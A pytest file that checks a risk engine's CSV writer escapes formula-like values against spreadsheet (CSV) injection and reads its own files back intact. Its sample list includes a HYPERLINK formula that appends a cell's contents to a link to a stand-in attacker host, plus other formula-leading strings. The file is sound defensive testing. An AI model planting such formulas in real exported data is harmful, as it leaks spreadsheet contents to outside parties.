"""Every CSV table the engine writes is safe to open in a spreadsheet, and the engine reads its own files back as
the values they stand for (features.cells; OWASP's CSV injection advice: a leading single quote)."""

from __future__ import annotations

from pathlib import Path

import pandas as pd

from certrisk.stringency_job import read_effects
from certrisk.tables import write_table
from features.loading.grades import load_grades

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "-2+3", "@SUM(1+1)*cmd", "CB00002", "'quoted"]


def _cells(path: Path, column: str) -> list[str]:
    return pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")[column].tolist()


def test_a_written_table_neutralises_formula_like_text_and_keeps_numbers(tmp_path):
    path = tmp_path / "t.csv"
    write_table(pd.DataFrame({"body_id": HOSTILE, "shift": [-0.5, 0.0, 1.5, -2.0, 3.0]}), path)
    assert _cells(path, "body_id") == [f"'{HOSTILE[0]}", "'-2+3", "'@SUM(1+1)*cmd", "CB00002", "''quoted"]
    assert _cells(path, "shift") == ["-0.5", "0.0", "1.5", "-2.0", "3.0"]  # numbers are not text: unchanged


def test_a_grades_file_the_engine_wrote_reads_back_as_written(tmp_path):
    path = tmp_path / "grades.csv"
    grades = pd.DataFrame({"body_id": HOSTILE, "as_of": "2026-10-01", "grade": ["A", "B", "C", "D", "A"]})
    write_table(grades, path)
    back = load_grades(path, pd.DataFrame({"body_id": HOSTILE}))
    assert back["body_id"].tolist() == HOSTILE


def test_an_inspector_table_the_engine_wrote_reads_back_as_written(tmp_path):
    path = tmp_path / "inspector_stringency.csv"
    write_table(pd.DataFrame({"inspector_id": HOSTILE, "stringency": [0.1, -0.2, 0.3, 0.0, -1.0]}), path)
    back = read_effects(path)
    assert sorted(back["inspector_id"]) == sorted(HOSTILE)
